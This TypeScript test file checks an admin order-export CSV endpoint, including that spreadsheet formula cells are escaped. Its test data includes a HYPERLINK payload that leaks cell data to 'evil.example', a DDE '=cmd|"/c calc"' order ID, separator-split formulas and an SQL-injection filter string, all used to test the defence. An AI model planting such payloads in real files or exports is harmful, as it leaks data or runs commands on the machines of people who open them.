import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { paymentMethodLabel } from '../../../shared/format.js';
import { STAGE_LABELS } from '../../../shared/stages.js';
import { orders } from '../../db/schema/orders.js';
import { manualClock, startTestApp, type TestApp, type TestClient } from '../../test/app.js';
import { signedInAdmin } from '../../test/auth-flow.js';
import { seedOrder } from '../orders/index.js';
import { dollarsFromCents, EXPORT_COLUMNS, escapeFormula } from './export.js';

let t: TestApp;
let admin: TestClient;

/** Product names a spreadsheet would run, and the text the export must hold instead. */
const HOSTILE: [string, string][] = [
  [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
  ],
  ['@SUM(1)', "'@SUM(1)"],
  ['-1+1', "'-1+1"],
  ['\t=1', "'\t'=1"],
  ['+1', "'+1"],
  ['\r=2', "'\r'=2"],
  ['＝1+1', "'＝1+1"],
  // Opened where the separator is `;`, tab or `|`, these split into a second cell that is a formula.
  ['Cabin;=1+1', "Cabin;'=1+1"],
  ['Cabin, =2+2', "Cabin, '=2+2"],
  ['Cabin|@SUM(3)', "Cabin|'@SUM(3)"],
  ['Cabin\t+4', "Cabin\t'+4"],
  ['Cabin;－5', "Cabin;'－5"],
];
const HOSTILE_NAMES = HOSTILE.map(([name]) => name);
/** Cells (or parts of cells split at a separator of any locale) that a spreadsheet would run. */
const TRIGGER = /(^|[,;|\t\r\n][ \t]*)[=+\-@＝＋－＠]/;

let studioId: number;

beforeAll(async () => {
  t = await startTestApp({ clock: manualClock(new Date('2026-11-23T22:30:00Z')) });
  admin = (await signedInAdmin(t)).client;
  const db = t.database.db;
  const { order } = await seedOrder(db, {
    orderId: 'VH1001',
    productName: 'Studio 240, "deluxe"',
    quantity: 2,
    email: 'ann@example.com',
    orderDate: new Date('2026-01-05T23:30:00Z'),
    status: 'PRODUCTION',
    paymentMethod: 'card',
    transactionId: 'txn_123',
    amount: '4500050',
    zipCode: '78701',
  });
  studioId = order.id;
  await db
    .update(orders)
    .set({ deliveryDate: new Date('2026-06-30T15:00:00Z') })
    .where(eq(orders.id, order.id));
  for (const [index, productName] of HOSTILE_NAMES.entries()) {
    await seedOrder(db, {
      orderId: index === 0 ? '=cmd|"/c calc"!A1' : `VH20${index}`,
      productName,
      orderDate: new Date(`2026-02-${String(index + 1).padStart(2, '0')}T12:00:00Z`),
      zipCode: index === 2 ? '-78701' : null,
    });
  }
});

afterAll(async () => {
  await t?.close();
});

/** The file as a spreadsheet would read it: the header row, then one array of cells per row. */
function parseCsv(text: string): string[][] {
  return parse(text, { bom: true, relax_column_count: false });
}

describe('exporting orders', () => {
  it('streams the export columns for every order of the filter, named for today', async () => {
    const res = await admin.get('/api/admin/orders/export');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toContain('filename="orders-export-2026-11-23.csv"');
    const [header, ...rows] = parseCsv(res.body);
    expect(header).toEqual([...EXPORT_COLUMNS]);
    expect(rows).toHaveLength(1 + HOSTILE_NAMES.length);
    expect(rows[0]).toEqual([
      'VH1001',
      'Studio 240, "deluxe"',
      '2',
      '2026-01-05',
      // The stage by its label, as the back office shows it; the import reads it back.
      'In Production',
      'Card',
      'txn_123',
      '45000.50',
      '2026-06-30',
      '78701',
    ]);
  });

  it('leaves no cell starting with a formula character, keeping the text after an apostrophe', async () => {
    const res = await admin.get('/api/admin/orders/export');
    const rows = parseCsv(res.body).slice(1);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(TRIGGER);
    const products = rows.map((row) => row[1]);
    for (const [, escaped] of HOSTILE) expect(products).toContain(escaped);
    expect(rows.map((row) => row[0])).toContain(`'=cmd|"/c calc"!A1`);
    expect(rows.map((row) => row[9])).toContain(`'-78701`);
  });

  it('exports only the orders the filter matches', async () => {
    const res = await admin.get(
      '/api/admin/orders/export?status=PRODUCTION&q=studio&page=3&sort=orderId:asc',
    );
    const rows = parseCsv(res.body).slice(1);
    expect(rows.map((row) => row[0])).toEqual(['VH1001']);
  });

  it('exports just the selected orders named by ids', async () => {
    const [first] = await t.database.db
      .select({ id: orders.id })
      .from(orders)
      .where(eq(orders.orderId, 'VH201'));
    const res = await admin.get(`/api/admin/orders/export?ids=${studioId},${first?.id}`);
    expect(res.status).toBe(200);
    const rows = parseCsv(res.body).slice(1);
    expect(rows.map((row) => row[0]).sort()).toEqual(['VH1001', 'VH201']);
    // The same list as repeated parameters.
    const repeated = await admin.get(`/api/admin/orders/export?ids=${studioId}&ids=${first?.id}`);
    expect(parseCsv(repeated.body).slice(1)).toHaveLength(2);
  });

  it('refuses ids that are not order ids, or more than 1000, with 400 naming ids', async () => {
    for (const ids of ['abc', '0', '1,-2', Array.from({ length: 1001 }, (_, i) => i + 1).join(',')]) {
      const res = await admin.get(`/api/admin/orders/export?ids=${ids}`);
      expect(res.status, ids.slice(0, 20)).toBe(400);
      expect(Object.keys(res.body.fields)).toEqual(['ids']);
    }
  });

  it('answers 404 ‘No orders to export’ when the filter matches nothing', async () => {
    const res = await admin.get('/api/admin/orders/export?status=DELIVERED');
    expect(res.status).toBe(404);
    expect((await admin.get('/api/admin/orders/export?ids=999999')).status).toBe(404);
    expect(res.body).toEqual({ code: 'NO_ORDERS_TO_EXPORT', message: 'No orders to export' });
  });

  it('refuses a bad filter with 400 naming it', async () => {
    const res = await admin.get('/api/admin/orders/export?payment=maybe');
    expect(res.status).toBe(400);
    expect(Object.keys(res.body.fields)).toEqual(['payment']);
  });

  it('exports one order as order-{orderId}.csv with the same columns', async () => {
    const res = await admin.get(`/api/admin/orders/${studioId}/export`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toContain('filename="order-VH1001.csv"');
    const [header, ...rows] = parseCsv(res.body);
    expect(header).toEqual([...EXPORT_COLUMNS]);
    expect(rows).toHaveLength(1);
    expect(rows[0]?.[7]).toBe('45000.50');
  });

  it('names a single export safely even when the order id holds quotes and slashes', async () => {
    const [hostile] = await t.database.db
      .select({ id: orders.id })
      .from(orders)
      .where(eq(orders.orderId, '=cmd|"/c calc"!A1'));
    const res = await admin.get(`/api/admin/orders/${hostile?.id}/export`);
    expect(res.status).toBe(200);
    const disposition = res.headers.get('content-disposition') ?? '';
    expect(disposition).toMatch(/^attachment; filename="order-[\w.-]+\.csv"; filename\*=UTF-8''/);
    expect(decodeURIComponent(disposition.split("UTF-8''")[1] ?? '')).toBe('order-=cmd|"/c calc"!A1.csv');
    const cells = parseCsv(res.body)[1] ?? [];
    for (const cell of cells) expect(cell).not.toMatch(TRIGGER);
  });

  it('answers 404 for a single export of an order that does not exist', async () => {
    expect((await admin.get('/api/admin/orders/999999/export')).status).toBe(404);
  });
});

/** The file's record for an order, as the rules say: formula escape, UTC days, dollars from cents. */
function expectedRecord(row: typeof orders.$inferSelect): string[] {
  const day = (date: Date | null) => (date ? date.toISOString().slice(0, 10) : '');
  return [
    row.orderId,
    row.productName,
    String(row.quantity),
    day(row.orderDate),
    STAGE_LABELS[row.status],
    paymentMethodLabel(row.paymentMethod),
    row.transactionId ?? '',
    dollarsFromCents(row.amount),
    day(row.deliveryDate),
    row.zipCode ?? '',
  ].map(escapeFormula);
}

describe('the database writing the cells', () => {
  // Each value is one the export must write exactly as the rules above would.
  const ODD_ORDERS: Partial<typeof orders.$inferInsert>[] = [
    { productName: 'Line\nbreak, "quoted"', amount: '5', quantity: 0 },
    { productName: ' Café «Zürich» 東京 ', amount: '007', paymentMethod: '', transactionId: '' },
    { productName: '\\.', amount: '-250', quantity: -1, zipCode: '' },
    { productName: "O'Brien \\ shed", amount: '  ', status: 'DELIVERED' },
    { productName: 'Plain', amount: '', deliveryDate: new Date('2026-12-31T23:59:59Z') },
    { productName: 'Text amount', amount: 'n/a' },
    { productName: 'Formula amount', amount: '=1+1' },
    { productName: 'Decimal amount', amount: '12.5' },
    { productName: 'Padded amount', amount: ' 300 ' },
    { productName: 'Signed amount', amount: '+5' },
    { productName: 'Exponent amount', amount: '1.5e2' },
    { productName: 'Zero amount', amount: '0' },
    { productName: 'Cents only', amount: '99' },
    { productName: 'One dollar', amount: '100' },
    { productName: 'Null amount', amount: null, zipCode: '\t78701' },
    { productName: 'Large amount', amount: '999999999999999' },
    { productName: 'Financing', paymentMethod: ' FINANCE ' },
    { productName: 'Direct pay', paymentMethod: 'direct_pay' },
    { productName: 'Bank account', paymentMethod: 'us_bank_account' },
    { productName: 'Alias', paymentMethod: 'Cash_App' },
    { productName: 'Unknown method', paymentMethod: 'bank__TRANSFER now' },
    { productName: 'Formula method', paymentMethod: '=evil_method' },
    { productName: 'Blank method', paymentMethod: ' \t ' },
  ];

  beforeAll(async () => {
    await t.database.db.insert(orders).values(
      ODD_ORDERS.map((values, index) => ({
        orderId: `ODD${index}`,
        orderDate: new Date(Date.UTC(2026, 2, 1, index)),
        ...values,
        productName: values.productName ?? 'Odd',
      })),
    );
    await t.database.db
      .insert(orders)
      .values({ orderId: 'BIG1', productName: 'Big', amount: '123456789012345678' });
  });

  it('writes the same bytes as formatting each stored value by the rules', async () => {
    const res = await admin.get('/api/admin/orders/export?q=ODD');
    expect(res.status).toBe(200);
    const stored = await t.database.db.select().from(orders).where(sql`${orders.orderId} like 'ODD%'`);
    stored.sort((a, b) => a.id - b.id);
    expect(stored).toHaveLength(ODD_ORDERS.length);
    // fetch's text() drops the byte-order mark.
    expect(res.body).toBe(stringify([[...EXPORT_COLUMNS], ...stored.map(expectedRecord)]));
  });

  it('names the payment method in words, never by its code', async () => {
    const rows = parseCsv((await admin.get('/api/admin/orders/export?q=ODD')).body).slice(1);
    const methods = new Map(rows.map((row) => [row[1], row[5]]));
    expect(methods.get('Financing')).toBe('Financing');
    expect(methods.get('Direct pay')).toBe('Direct pay');
    expect(methods.get('Bank account')).toBe('US bank account');
    expect(methods.get('Alias')).toBe('Cash App');
    expect(methods.get('Unknown method')).toBe('Bank Transfer Now');
    expect(methods.get('Formula method')).toBe("'=evil Method");
    expect(methods.get('Blank method')).toBe('');
  });

  it('writes whole cents beyond a double’s precision exactly', async () => {
    const rows = parseCsv((await admin.get('/api/admin/orders/export?q=BIG1')).body).slice(1);
    expect(rows.map((row) => row[7])).toEqual(['1234567890123456.78']);
  });

  it('matches a filter holding quotes and backslashes literally', async () => {
    const res = await admin.get(`/api/admin/orders/export?product=${encodeURIComponent("O'Brien \\")}`);
    expect(res.status).toBe(200);
    const rows = parseCsv(res.body).slice(1);
    expect(rows.map((row) => row[1])).toEqual(["O'Brien \\ shed"]);
    const none = await admin.get(`/api/admin/orders/export?q=${encodeURIComponent("'; select 1; --")}`);
    expect(none.status).toBe(404);
  });
});

describe('escaping formula cells', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\t=1', "'\t'=1"],
    ['Cabin;=1+1', "Cabin;'=1+1"],
    ['a, =1', "a, '=1"],
    ['＝1', "'＝1"],
    ['x|@y', "x|'@y"],
    ['\r=1', "'\r'=1"],
    ['Cabin = 400', 'Cabin = 400'],
    ['', ''],
    ["'quoted", "'quoted"],
  ])('turns %j into %j', (input, output) => {
    expect(escapeFormula(input)).toBe(output);
  });

  it('writes cents as plain dollars and keeps a value that is not a number', () => {
    expect(dollarsFromCents('4500000')).toBe('45000.00');
    expect(dollarsFromCents('5')).toBe('0.05');
    expect(dollarsFromCents(null)).toBe('');
    expect(dollarsFromCents('n/a')).toBe('n/a');
  });
});
